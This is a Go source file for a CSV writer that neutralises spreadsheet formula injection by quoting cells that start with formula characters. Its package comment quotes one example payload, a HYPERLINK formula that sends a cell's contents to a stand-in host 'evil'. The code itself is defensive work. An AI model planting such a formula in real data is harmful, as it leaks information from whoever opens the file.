// Package csvsafe writes CSV that a spreadsheet opens as data: the one CSV
// writer of the module.
//
// A spreadsheet program that opens a CSV file runs a cell starting with =,
// +, - or @ as a formula (and some treat a leading tab or carriage return
// the same way), so a supplier named `=HYPERLINK("http://evil/?"&A1,"x")`
// could leak data or mislead whoever opens an export ("CSV injection").
// Writer prefixes such a cell with a single quote, which the spreadsheet
// shows as text; a reader of the raw CSV sees the quote and can strip it.
//
// A cell that is a plain decimal number ("-12.50", "1148000.00", "7") is
// written as it is, so that negative amounts stay numbers: a plain number
// cannot run as a formula. Every other cell starting with one of those
// characters is neutralised, whoever wrote it, so a caller cannot forget a
// column. Every CSV file the module writes goes through Writer.
package csvsafe

import (
	"encoding/csv"
	"io"
	"strings"
)

// OneLine returns free text folded onto one line, as a cell shows it (a
// proxy's source in the catalogue CSV, a waiver's reason in the award
// table): every run of white space, line breaks included, becomes one
// space, and none is left at either end. It is the one definition of that
// rule in the module.
func OneLine(s string) string { return strings.Join(strings.Fields(s), " ") }

// Cell returns s, prefixed with a single quote (') when it starts with =,
// +, -, @, a tab or a carriage return and is not a plain decimal number
// (an optional minus, digits, optionally a point and digits); any other
// string is returned as is. Cell is idempotent: a neutralised cell starts
// with ' and is not changed again.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '@', '\t', '\r':
		return "'" + s
	case '-':
		if isNumber(s[1:]) {
			return s
		}
		return "'" + s
	}
	return s
}

// isNumber reports whether s is digits, optionally followed by a point and
// digits.
func isNumber(s string) bool {
	digits, point := 0, false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !point && digits > 0 && i+1 < len(s):
			point = true
		default:
			return false
		}
	}
	return digits > 0
}

// Writer writes CSV records with every cell made safe by Cell. It wraps
// encoding/csv (RFC 4180 quoting, "\n" line ends).
type Writer struct {
	w   *csv.Writer
	row []string
}

// NewWriter returns a Writer that writes to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one record, each cell passed through Cell. The caller's
// slice is not changed.
func (w *Writer) Write(record []string) error {
	w.row = w.row[:0]
	for _, c := range record {
		w.row = append(w.row, Cell(c))
	}
	return w.w.Write(w.row)
}

// WriteAll writes records, then flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	return w.Flush()
}

// Flush writes any buffered data and returns the first error met while
// writing.
func (w *Writer) Flush() error {
	w.w.Flush()
	return w.w.Error()
}
